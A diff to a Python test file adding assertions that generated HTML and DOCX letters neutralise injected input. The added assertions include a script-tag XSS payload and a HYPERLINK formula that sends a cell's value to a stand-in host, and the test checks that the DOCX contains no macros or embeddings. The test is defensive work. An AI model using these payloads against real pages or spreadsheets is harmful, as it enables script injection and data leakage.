@@ -15,6 +15,7 @@ import signal
 import subprocess
 import sys
 import time
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -73,7 +74,9 @@ def test_case(case, tmp_path, monkeypatch, capsys):
 
 
 def _assert_neutralised(path: Path) -> None:
-    if path.suffix == ".csv":
+    if path.is_dir():  # a letter: escaped in HTML, plain text without control characters in DOCX
+        _assert_letter_neutralised(path / corpus.PERIOD / corpus.SCOPE)
+    elif path.suffix == ".csv":
         import csv
 
         rows = list(csv.reader(io.StringIO(path.read_text("utf-8"))))
@@ -92,6 +95,24 @@ def _assert_neutralised(path: Path) -> None:
                     assert c.data_type != "f", c.value
                     if isinstance(c.value, str) and c.value.startswith(FORMULA_START):
                         assert c.quotePrefix, c.value
+
+
+def _assert_letter_neutralised(folder: Path) -> None:
+    import re
+
+    from docx import Document
+
+    html = (folder / "cong-van.html").read_text("utf-8")
+    assert "<script>alert" not in html and "&lt;script&gt;alert(&#39;x&#39;)" in html
+    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", html)
+    doc = Document(str(folder / "cong-van.docx"))
+    cells = [c.text for t in doc.tables for row in t.rows for c in row.cells]
+    text = "\n".join([p.text for p in doc.paragraphs] + cells)
+    assert "<script>alert('x')</script>" in text  # shown as typed: plain text, not markup
+    assert '=HYPERLINK("http://example.invalid/?x="&A1,"bấm")' in text
+    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", text)
+    with zipfile.ZipFile(folder / "cong-van.docx") as archive:
+        assert not [n for n in archive.namelist() if "vbaProject" in n or "embeddings" in n]
 
 
 # ----------------------------------------------------------------------------- writers
